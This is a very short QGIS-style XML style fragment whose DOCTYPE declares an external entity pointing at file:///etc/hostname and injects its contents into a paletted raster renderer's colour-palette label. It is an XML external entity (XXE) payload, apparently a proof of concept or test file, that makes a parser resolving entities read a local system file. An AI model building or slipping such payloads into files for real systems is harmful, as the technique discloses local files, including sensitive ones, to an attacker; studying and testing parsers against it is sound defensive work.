<!DOCTYPE qgis [<!ENTITY x SYSTEM "file:///etc/hostname">]>
<qgis><pipe><rasterrenderer type="paletted" band="1"><colorPalette><paletteEntry value="1" label="&x;" color="#0000ff" alpha="255"/></colorPalette></rasterrenderer></pipe></qgis>
